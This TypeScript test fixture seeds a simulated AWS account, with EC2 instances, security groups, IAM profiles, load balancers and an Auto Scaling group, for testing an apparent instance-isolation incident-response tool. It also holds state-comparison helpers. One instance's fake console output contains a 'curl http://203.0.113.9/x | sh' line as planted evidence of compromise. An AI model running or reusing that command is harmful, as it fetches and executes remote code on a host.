/**
 * The account the EC2 action tests run against: a web instance with two network interfaces in an Auto
 * Scaling group behind a target group and a classic load balancer, with an instance profile; a peer in
 * the same subnet and groups; an instance alone in its subnet; a protected instance; an instance whose
 * profile holds a service-linked role. Real SDK clients are attached to the sandbox.
 */
import { AutoScalingClient } from '@aws-sdk/client-auto-scaling';
import { EC2Client } from '@aws-sdk/client-ec2';
import { ElasticLoadBalancingClient } from '@aws-sdk/client-elastic-load-balancing';
import { ElasticLoadBalancingV2Client } from '@aws-sdk/client-elastic-load-balancing-v2';
import { IAMClient } from '@aws-sdk/client-iam';
import type { AccountSeed, AccountState } from '#local/sandbox/index';
import { Sandbox } from '#local/sandbox/index';

export const WEB = 'i-0a1b2c3d4e5f60001';
export const PEER = 'i-0a1b2c3d4e5f60002';
export const SOLO = 'i-0a1b2c3d4e5f60003';
export const GUARDED = 'i-0a1b2c3d4e5f60004';
export const SLR = 'i-0a1b2c3d4e5f60005';
export const WEB_ENI_0 = 'eni-0a000000000000001';
export const WEB_ENI_1 = 'eni-0a000000000000002';
export const VPC = 'vpc-0a';

/** 2025-01-01T00:00:00Z: the sandbox's clock starts here. */
export const T0 = Date.UTC(2025, 0, 1);

export function seed(): AccountSeed {
  return {
    vpcs: [
      {
        id: VPC,
        isDefault: true,
        subnets: [
          { id: 'subnet-app', cidr: '10.0.1.0/24' },
          { id: 'subnet-solo', cidr: '10.0.2.0/24' },
        ],
      },
    ],
    securityGroups: [
      { id: 'sg-web', name: 'web', ingress: [{ port: 443, cidr: '0.0.0.0/0' }] },
      { id: 'sg-admin', name: 'admin', ingress: [{ port: 22, cidr: '10.0.0.0/8' }] },
    ],
    instances: [
      {
        id: WEB,
        subnet: 'subnet-app',
        networkInterfaces: [
          { id: WEB_ENI_0, groups: ['sg-web', 'sg-admin'] },
          { id: WEB_ENI_1, groups: ['sg-web'] },
        ],
        volumes: [
          { id: 'vol-0a000000000000001' },
          { id: 'vol-0a000000000000002', size: 20, tags: { data: 'yes' } },
        ],
        profile: 'web-profile',
        tags: { Name: 'web', 'cordon:status': 'healthy' },
        consoleOutput: 'boot ok\nsuspicious: curl http://203.0.113.9/x | sh\n',
      },
      { id: PEER, subnet: 'subnet-app', groups: ['sg-web'], profile: 'web-profile' },
      { id: SOLO, subnet: 'subnet-solo', groups: ['sg-web'] },
      { id: GUARDED, subnet: 'subnet-app', groups: ['sg-web'], tags: { 'cordon:protected': 'true' } },
      { id: SLR, subnet: 'subnet-app', groups: ['sg-web'], profile: 'slr-profile' },
    ],
    iam: {
      roles: [
        { name: 'web-role' },
        { name: 'AWSServiceRoleForCordonTest', path: '/aws-service-role/test.amazonaws.com/' },
      ],
      instanceProfiles: [
        { name: 'web-profile', roles: ['web-role'] },
        { name: 'slr-profile', roles: ['AWSServiceRoleForCordonTest'] },
      ],
    },
    targetGroups: [{ name: 'web-tg', targets: [WEB, PEER] }],
    loadBalancers: [{ name: 'web-clb', instances: [WEB, PEER] }],
    autoScalingGroups: [
      {
        name: 'web-asg',
        instances: [WEB, PEER],
        min: 1,
        max: 4,
        targetGroups: ['web-tg'],
        loadBalancers: ['web-clb'],
      },
    ],
  };
}

const config = { region: 'us-east-1', credentials: { accessKeyId: 'x', secretAccessKey: 'y' } };

/** A fresh sandbox and SDK clients attached to it. */
export function setup(accountSeed: AccountSeed = seed()) {
  const sandbox = Sandbox.create(accountSeed, { now: () => T0 });
  const clock = () => new Date(sandbox.now());
  return {
    sandbox,
    now: clock,
    ec2: sandbox.attach(new EC2Client(config)),
    iam: sandbox.attach(new IAMClient(config)),
    asg: sandbox.attach(new AutoScalingClient(config)),
    elbv2: sandbox.attach(new ElasticLoadBalancingV2Client(config)),
    elb: sandbox.attach(new ElasticLoadBalancingClient(config)),
  };
}

export const PROTECTED_TAG = { key: 'cordon:protected', value: 'true' } as const;

/** The commands the sandbox answered since `from` (an index into `sandbox.calls`), as `Service:Command`. */
export function callsSince(sandbox: Sandbox, from = 0): string[] {
  return sandbox.calls.slice(from).map((c) => `${c.service}:${c.command}`);
}

const READ = /^(Describe|Get|List)/;

/** The mutating commands since `from`. */
export function mutationsSince(sandbox: Sandbox, from = 0): string[] {
  return sandbox.calls
    .slice(from)
    .filter((c) => !READ.test(c.command))
    .map((c) => `${c.service}:${c.command}`);
}

/** The groups of an interface in the sandbox. */
export function groupsOf(state: AccountState, eni: string): string[] | undefined {
  return state.ec2.networkInterfaces[eni]?.groups;
}

/** The error a promise rejects with. */
export async function errorOf(promise: Promise<unknown>): Promise<Error> {
  try {
    await promise;
  } catch (error) {
    if (error instanceof Error) return error;
    throw new Error(`rejected with a non-error: ${String(error)}`);
  }
  throw new Error('expected a rejection');
}

/**
 * The account state with what a release cannot or should not restore taken out:
 * - Cordon's own groups and network ACL (they stay, for the next incident) and the evidence snapshots;
 * - the ids and times of associations, which AWS makes anew (profile association, network ACL association);
 * - the order of lists whose order is registration order (load balancer instances, targets, group members);
 * - the sandbox's id counter;
 * - the Auto Scaling desired capacity, which AttachInstances raises by one (checked separately).
 */
export function comparable(state: AccountState): unknown {
  const copy = structuredClone(state);
  const cordon = (id: string) =>
    Object.keys(copy.ec2.tags[id] ?? {}).some((k) => k === 'cordon:isolation' || k === 'cordon:quarantine');
  for (const id of Object.keys(copy.ec2.securityGroups)) if (cordon(id)) delete copy.ec2.securityGroups[id];
  for (const id of Object.keys(copy.ec2.networkAcls)) if (cordon(id)) delete copy.ec2.networkAcls[id];
  for (const id of Object.keys(copy.ec2.tags))
    if (cordon(id) || id.startsWith('snap-')) delete copy.ec2.tags[id];
  copy.ec2.snapshots = {};
  for (const acl of Object.values(copy.ec2.networkAcls)) {
    acl.associations = acl.associations
      .map((a) => ({ ...a, associationId: '' }))
      .sort((a, b) => a.subnetId.localeCompare(b.subnetId));
  }
  const associations = Object.values(copy.ec2.profileAssociations)
    .map(({ associationId: _id, timestamp: _t, ...rest }) => rest)
    .sort((a, b) => a.instanceId.localeCompare(b.instanceId));
  // Registration order is not state: a registered instance is listed last.
  for (const lb of Object.values(copy.elb.loadBalancers)) lb.instances.sort();
  for (const tg of Object.values(copy.elbv2.targetGroups))
    tg.targets.sort((a, b) => a.id.localeCompare(b.id));
  for (const group of Object.values(copy.autoScaling.groups)) {
    group.instances.sort((a, b) => a.instanceId.localeCompare(b.instanceId));
  }
  copy.nextId = 0;
  for (const group of Object.values(copy.autoScaling.groups)) group.desiredCapacity = 0;
  return { ...copy, ses: { sent: [] }, ec2: { ...copy.ec2, profileAssociations: associations } };
}
